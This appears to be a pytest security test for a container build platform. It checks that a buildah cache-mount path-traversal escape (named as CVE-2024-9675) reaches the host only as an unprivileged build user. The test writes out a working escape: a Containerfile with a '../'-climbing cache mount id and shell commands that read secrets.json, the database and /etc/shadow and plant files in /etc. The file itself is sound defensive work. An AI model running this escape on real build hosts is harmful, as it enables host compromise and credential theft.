"""Issue 21, finding 3, from the build's side: Debian's buildah 1.28 has CVE-2024-9675 (a cache mount whose ``id``
climbs out of the cache directory mounts that host directory into the build). The form refuses the line
(test_images.py); here it is written into the Containerfile directly, through the builder function, as a builder
bug or a form bug would let it through. The escape works (a control file is read through it), yet the build runs
as the unprivileged build user in a user namespace of its own: the platform's secrets stay unreadable, its data
dir unlisted, and what it writes on the host is the build user's, never root's."""

from __future__ import annotations

import json
import os
import pwd
import secrets
import subprocess

import pytest

from caldera.images.builds import Builder, BuildFailed
from caldera.images.sandbox import BUILD_USER
from caldera.runtime.container.settings import ContainerSettings
from tests import needs
from tests.conftest import make_settings, traversable
from tests.needs import buildah_usable, root_user  # noqa: F401 - fixtures

pytestmark = pytest.mark.usefixtures("root_user", "buildah_usable")


@pytest.fixture
def settings(tmp_path):
    if subprocess.run(["podman", "image", "exists", ContainerSettings().image]).returncode != 0:
        needs.missing("needs the base image: caldera images bootstrap")
    return make_settings(tmp_path, None, image_build_memory_mib=1024)


def test_a_cache_mount_that_escapes_to_the_host_reaches_it_only_as_the_build_user(platform, tmp_path):
    builder = Builder(platform)
    builder.prepare()
    needs.require(builder.unavailable is None, f"builds cannot run rootless here: {builder.unavailable}")
    data = platform.settings.data_dir
    keys = json.loads((data / "secrets.json").read_text())
    # a world-writable directory and a world-readable file: what any unprivileged user reaches, the control
    shared = traversable(tmp_path) / "shared"
    shared.mkdir(mode=0o1777)
    os.chmod(shared, 0o1777)
    token = secrets.token_hex(8)
    (shared / "readable").write_text(f"control-{token}\n")
    os.chmod(shared / "readable", 0o644)
    # each marker is printed as X-""Y in the step's command line that buildah logs, as X-Y only if it ran
    climb = "../" * 40  # from wherever the build user's cache directory is, up to the host's /
    attack = "; ".join(
        (
            f"cat /host{shared}/readable",
            "echo uid=$(stat -c %u /host/etc/passwd)",
            f'cat /host{data}/secrets.json && echo SECRETS-""READ',
            f'ls /host{data} && echo DATA-""LISTED',
            f'cat /host{data}/caldera.db >/dev/null && echo DATABASE-""READ',
            f"touch /host{shared}/written",
            f'touch /host{data}/planted && echo DATA-""WRITTEN',
            'touch /host/etc/caldera-planted && echo ETC-""WRITTEN',
            'cat /host/etc/shadow >/dev/null && echo SHADOW-""READ',
            "true",
        )
    )
    containerfile = (
        f"FROM {builder.base_for('3.11')}\nRUN --mount=type=cache,id={climb},target=/host sh -c '{attack}'\n"
    )
    ref = "127.0.0.1:1/attack/escape:1"
    log = tmp_path / "attack.log"
    try:
        builder.build_file(containerfile, builder.base_for("3.11"), ref, log)
    except BuildFailed:
        pass  # a builder that refuses the mounts outright is as good; the log says what ran
    finally:
        builder.remove(ref)
    text = log.read_text()
    assert f"control-{token}" in text, text[-3000:]  # the escape reached the host: only the sandbox stands
    for marker in ("SECRETS-READ", "DATA-LISTED", "DATABASE-READ", "DATA-WRITTEN", "ETC-WRITTEN", "SHADOW-READ"):
        assert marker not in text, (marker, text[-3000:])
    assert not any(value in text for value in keys.values())
    assert not (data / "planted").exists() and not os.path.exists("/etc/caldera-planted")
    # the host's root-owned files look unowned (nobody) from inside: host root is not the build's root
    assert "uid=0" not in text
    written = os.stat(shared / "written")
    assert written.st_uid == pwd.getpwnam(BUILD_USER).pw_uid != 0


def test_where_builds_cannot_run_rootless_none_runs_as_root(platform, tmp_path, monkeypatch):
    """Debian's buildah is vulnerable: without the sandbox the platform builds nothing rather than build as root."""
    from caldera.images import sandbox

    monkeypatch.setattr(sandbox, "ROOT_PATH", str(tmp_path))  # no newuidmap, no slirp4netns there
    builder = Builder(platform)
    builder.prepare()
    assert "apt-get install uidmap" in builder.unavailable
    log = tmp_path / "refused.log"
    with pytest.raises(BuildFailed, match="builds run only rootless"):
        builder.build_file("FROM scratch\nRUN id\n", builder.base_for("3.11"), "127.0.0.1:1/x/refused:1", log)
    assert not log.exists() or "buildah bud" not in log.read_text()
